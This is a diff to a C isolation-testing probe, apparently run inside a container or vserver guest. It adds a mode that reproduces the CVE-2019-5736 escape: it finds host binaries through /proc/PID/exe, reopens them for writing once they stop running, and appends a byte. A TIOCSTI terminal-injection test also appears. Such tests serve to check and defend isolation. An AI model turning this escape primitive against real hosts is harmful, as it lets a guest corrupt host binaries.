@@ -40,6 +40,12 @@
  *   --open-exe PID    open /proc/PID/exe for writing, then write one byte at
  *                     its end: "open-exe PID: open ERRNO" or "write ERRNO"
  *                     or "written" (the attack of CVE-2019-5736)
+ *   --open-exe-loop SECS
+ *                     for SECS seconds, look for processes whose /proc/PID/exe
+ *                     is not a file of this guest (a vserver binary or memfd),
+ *                     hold it with O_PATH and reopen it for writing once the
+ *                     process is gone, then append one byte: "seen N opened M
+ *                     written K" (N distinct processes)
  *   --tiocsti TEXT    for every open fd: "fd N dev MAJ:MIN ERRNO" after trying
  *                     to push TEXT into its terminal's input (TIOCSTI); then
  *                     the same for /dev/tty; "ctty MAJ:MIN" (0:0: none)
@@ -77,7 +83,7 @@ static int usage(void)
               "                     --status | --ls DIR | --spin SECS | --alloc MIB |\n"
               "                     --mlock MIB | --memlock-limit | --fork N |\n"
               "                     --syscall NAME | --syscall32 NAME | --syscallx32 NAME |\n"
-              "                     --open-exe PID | --tiocsti TEXT]\n",
+              "                     --open-exe PID | --open-exe-loop SECS | --tiocsti TEXT]\n",
               stderr);
         return 2;
 }
@@ -420,6 +426,61 @@ static int open_exe(const char *pid)
         return 0;
 }
 
+
+/* The attack of CVE-2019-5736 from inside a guest: a host program that runs
+ * in the guest's PID namespace is reachable through /proc/PID/exe; hold it
+ * and write to it once it stops running (ETXTBSY until then). */
+static int open_exe_loop(unsigned long secs)
+{
+        time_t end = time(NULL) + (time_t)secs;
+        unsigned long seen = 0, opened = 0, written = 0;
+        int last_pid = 0;
+
+        while (time(NULL) < end) {
+                struct dirent *de;
+                DIR *d = opendir("/proc");
+                if (!d)
+                        return fail("/proc");
+                while ((de = readdir(d))) {
+                        char path[64], target[256], again[64];
+                        int pid = atoi(de->d_name), fd, w = -1;
+                        ssize_t n;
+
+                        if (pid <= 1 || pid == getpid() || pid == last_pid)
+                                continue;
+                        snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+                        n = readlink(path, target, sizeof(target) - 1);
+                        if (n <= 0)
+                                continue;
+                        target[n] = '\0';
+                        if (!strstr(target, "memfd:") && !strstr(target, "vs-"))
+                                continue;
+                        fd = open(path, O_PATH | O_CLOEXEC);
+                        if (fd < 0)
+                                continue;
+                        seen++;
+                        last_pid = pid;
+                        snprintf(again, sizeof(again), "/proc/self/fd/%d", fd);
+                        while (time(NULL) < end) {
+                                w = open(again, O_WRONLY | O_APPEND | O_CLOEXEC);
+                                if (w >= 0 || errno != ETXTBSY)
+                                        break;
+                                usleep(50);
+                        }
+                        if (w >= 0) {
+                                opened++;
+                                if (write(w, "X", 1) == 1)
+                                        written++;
+                                close(w);
+                        }
+                        close(fd);
+                }
+                closedir(d);
+        }
+        printf("seen %lu opened %lu written %lu\n", seen, opened, written);
+        return 0;
+}
+
 static void sti(int fd, const char *label, const char *text)
 {
         struct stat st;
@@ -528,6 +589,8 @@ int main(int argc, char *argv[])
                 r = attempt(argv[2], 3232);
         else if (!strcmp(cmd, "--open-exe") && nargs == 1)
                 r = open_exe(argv[2]);
+        else if (!strcmp(cmd, "--open-exe-loop") && nargs == 1)
+                r = parse_uint(argv[2], 3600, &n) < 0 ? usage() : open_exe_loop(n);
         else if (!strcmp(cmd, "--tiocsti") && nargs == 1)
                 r = tiocsti_all(argv[2]);
         else if (!strcmp(cmd, "--memlock-limit") && nargs == 0) {
